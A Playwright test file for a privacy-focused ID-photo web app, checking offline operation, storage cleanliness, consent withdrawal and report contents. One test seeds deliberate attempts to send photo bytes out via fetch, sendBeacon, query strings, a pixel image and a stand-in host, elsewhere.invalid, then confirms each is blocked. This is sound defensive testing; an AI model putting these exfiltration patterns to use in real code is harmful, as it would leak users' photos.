// SPDX-License-Identifier: Apache-2.0
import { readFileSync } from 'node:fs';
import { test as plain } from '@playwright/test';
import { serveStatic } from '../scripts/static.mjs';
import { addPhoto, chooseDocument, DIST, expect, give, open, PHOTO, saved, test, toSave } from './site';

async function watched(page: import('@playwright/test').Page): Promise<void> {
  await expect(page.locator('[data-guard]')).toHaveAttribute('data-guard', 'kept');
}

test('works with the network cut after loading, and after a reload', async ({ page, site, context }) => {
  await open(page, site, '/models');
  await watched(page);
  await page.getByRole('button', { name: 'Fetch the base networks' }).click();
  await expect(page.locator('[data-state=kept]')).toHaveCount(3);
  // The browser's own switch spares the service worker's update check; a server that is gone spares nobody.
  await context.setOffline(true);
  await site.close();
  await page.reload();
  await page.goto(`${site.url}/#/`);
  await chooseDocument(page, 'us-passport');
  await addPhoto(page);
  await toSave(page);
  expect((await saved(page, 'Download the photo')).bytes.length).toBeGreaterThan(1000);
});

test('seeded breaches are caught, each of them', async ({ page, site, guarded }) => {
  guarded.expectBreach = true;
  await open(page, site);
  await watched(page);
  const before = site.requests.length;
  const outcome = await page.evaluate(async (base64) => {
    const bytes = Uint8Array.from(atob(base64), (letter) => letter.charCodeAt(0));
    const failed = (promise: Promise<unknown>) => promise.then(() => false, () => true);
    const image = (url: string) =>
      new Promise<boolean>((resolve) => {
        const element = new Image();
        element.onload = () => resolve(false);
        element.onerror = () => resolve(true);
        element.src = url;
      });
    navigator.sendBeacon('/beacon', new Blob([bytes]));
    return {
      post: await failed(fetch('/upload', { method: 'POST', body: bytes })),
      put: await failed(fetch('/', { method: 'PUT', body: 'x' })),
      query: await failed(fetch(`/?photo=${base64.slice(0, 200)}`)),
      path: await failed(fetch(`/${encodeURIComponent(base64.slice(0, 100))}`)),
      image: await image(`/pixel.gif?data=${base64.slice(0, 200)}`),
      elsewhere: await failed(fetch('https://elsewhere.invalid/', { method: 'POST', body: bytes })),
      elsewhereImage: await image(`https://elsewhere.invalid/${base64.slice(0, 50)}.png`),
    };
  }, readFileSync(PHOTO).subarray(0, 3000).toString('base64'));
  expect(outcome).toEqual({ post: true, put: true, query: true, path: true, image: true, elsewhere: true, elsewhereImage: true });
  // The panel tells of each, with the bytes that were held back; the policy's refusals reach no service worker.
  await page.goto(`${site.url}/#/privacy`);
  const refused = page.locator('tr[data-outcome=refused]');
  for (const row of ['POST /upload', 'POST /beacon', 'PUT /', 'GET /pixel.gif', 'connect-src https://elsewhere.invalid', 'img-src https://elsewhere.invalid']) {
    await expect(refused.filter({ hasText: row }).first(), row).toBeVisible();
  }
  await expect(refused.filter({ hasText: 'POST /upload' })).toHaveAttribute('data-held', '3000');
  await expect(refused.filter({ hasText: 'POST /beacon' })).toHaveAttribute('data-held', '3000');
  await expect(page.locator('[data-requests]')).toHaveAttribute('data-sent', '0');
  // By now each has been answered or refused; nothing but the app's own files was asked of the server.
  expect(site.requests.slice(before).filter(({ method, path }) => method !== 'GET' || !path.startsWith('/assets/'))).toEqual([]);
});

plain.describe('without a service worker', () => {
  plain.use({ serviceWorkers: 'block' });
  plain('what leaves is counted as it is', async ({ page }) => {
    const site = await serveStatic(DIST);
    await open(page, site);
    await page.locator('[data-document]').first().waitFor();
    await page.evaluate(async () => {
      await fetch('/fetched', { method: 'POST', body: new Uint8Array(1234) });
      await fetch(new Request('/requested', { method: 'PUT', body: 'ä' }));
      navigator.sendBeacon('/beacon', new Blob(['12345']));
      await new Promise((resolve) => {
        const request = new XMLHttpRequest();
        request.onloadend = resolve;
        request.open('POST', '/older');
        request.send('1234567');
      });
    });
    await page.goto(`${site.url}/#/privacy`);
    await expect(page.locator('[data-requests]')).toHaveAttribute('data-sent', String(1234 + 2 + 5 + 7));
    expect(site.requests.reduce((sum, request) => sum + request.bodyBytes, 0)).toBe(1234 + 2 + 5 + 7);
    await expect(page.locator('tr[data-outcome=network]').filter({ hasText: 'POST /fetched' })).toHaveAttribute('data-sent', '1234');
    // The engine's own requests are told by its worker.
    await expect(page.locator('tr').filter({ hasText: 'GET /assets/rulebook-' })).toBeVisible();
    await page.close();
    await site.close();
  });
});

test('nothing of a photo is in any storage', async ({ page, site }) => {
  await open(page, site);
  await watched(page);
  await chooseDocument(page, 'generic-35x45');
  await addPhoto(page);
  await toSave(page);
  const photo = readFileSync(PHOTO);
  const made = (await saved(page, 'Download the photo')).bytes;
  const needles = [photo, made].flatMap((file) => [file.subarray(2000, 2024), file.subarray(file.length - 2000, file.length - 1976)]);
  const found = await page.evaluate(search, needles.map((needle) => [...needle]));
  expect(found.looked).toBeGreaterThan(10);
  expect(found.hits).toEqual([]);
  expect(found.local.filter((key) => !/^likeness\.(consent|recent|sheet|language|scheme)$/.test(key))).toEqual([]);
});

/** Looks through IndexedDB, Cache Storage, OPFS, local and session storage for the bytes. Runs in the page. */
async function search(needles: number[][]): Promise<{ hits: string[]; looked: number; local: string[] }> {
  const hits: string[] = [];
  let looked = 0;
  const look = (place: string, bytes: Uint8Array) => {
    looked++;
    for (const needle of needles) {
      for (let at = bytes.indexOf(needle[0]!); at !== -1; at = bytes.indexOf(needle[0]!, at + 1)) {
        if (needle.every((byte, offset) => bytes[at + offset] === byte)) {
          hits.push(place);
          break;
        }
      }
    }
  };
  const flat = async (value: unknown): Promise<Uint8Array> => {
    if (value instanceof Blob) {
      return new Uint8Array(await value.arrayBuffer());
    }
    if (value instanceof ArrayBuffer) {
      return new Uint8Array(value);
    }
    if (ArrayBuffer.isView(value)) {
      return new Uint8Array(value.buffer, value.byteOffset, value.byteLength);
    }
    if (typeof value === 'object' && value !== null) {
      const parts = await Promise.all(Object.values(value).map(flat));
      return new Uint8Array(parts.flatMap((part) => [...part]));
    }
    return new TextEncoder().encode(String(value));
  };
  for (const { name } of await indexedDB.databases()) {
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const opening = indexedDB.open(name!);
      opening.onsuccess = () => resolve(opening.result);
      opening.onerror = () => reject(opening.error);
    });
    for (const store of database.objectStoreNames) {
      const all = await new Promise<unknown[]>((resolve, reject) => {
        const asking = database.transaction(store).objectStore(store).getAll();
        asking.onsuccess = () => resolve(asking.result);
        asking.onerror = () => reject(asking.error);
      });
      for (const value of all) {
        look(`IndexedDB ${name}/${store}`, await flat(value));
      }
    }
    database.close();
  }
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      const response = await cache.match(request);
      look(`Cache ${request.url}`, new Uint8Array(await response!.arrayBuffer()));
    }
  }
  const walk = async (folder: FileSystemDirectoryHandle) => {
    for await (const entry of (folder as unknown as { values(): AsyncIterable<FileSystemHandle> }).values()) {
      if (entry.kind === 'file') {
        const file = await (entry as FileSystemFileHandle).getFile();
        look(`OPFS ${entry.name}`, new Uint8Array(await file.arrayBuffer()));
      } else {
        await walk(entry as FileSystemDirectoryHandle);
      }
    }
  };
  await walk(await navigator.storage.getDirectory());
  for (const storage of [localStorage, sessionStorage]) {
    for (const key of Object.keys(storage)) {
      look(key, new TextEncoder().encode(storage.getItem(key)!));
    }
  }
  return { hits, looked, local: Object.keys(localStorage) };
}

test('consent can be withdrawn, and the photo is forgotten', async ({ page, site }) => {
  await open(page, site);
  await chooseDocument(page, 'us-passport');
  await addPhoto(page);
  await page.goto(`${site.url}/#/privacy`);
  await page.getByRole('button', { name: 'Withdraw and forget the photo' }).click();
  await expect(page.getByText('Not given.')).toBeVisible();
  await page.goto(`${site.url}/#/make/adjust`);
  await expect(page.locator('h1')).toHaveText('Make an ID photo');
});

test('the report of a problem holds neither names nor pixels', async ({ page, site }) => {
  const { FILES } = await import('./setup');
  await open(page, site);
  await chooseDocument(page, 'us-passport');
  await page.locator('[data-consent] button').click();
  await give(page.locator('input[type=file]').first(), `${FILES}/wall.png`);
  await expect(page.getByRole('alert')).toBeVisible();
  await page.goto(`${site.url}/#/settings`);
  const text = (await saved(page, 'Download the report')).bytes.toString('utf8');
  expect(text).toContain('NO_FACE');
  expect(text).not.toContain('wall');
  expect(text.length).toBeLessThan(4000);
});
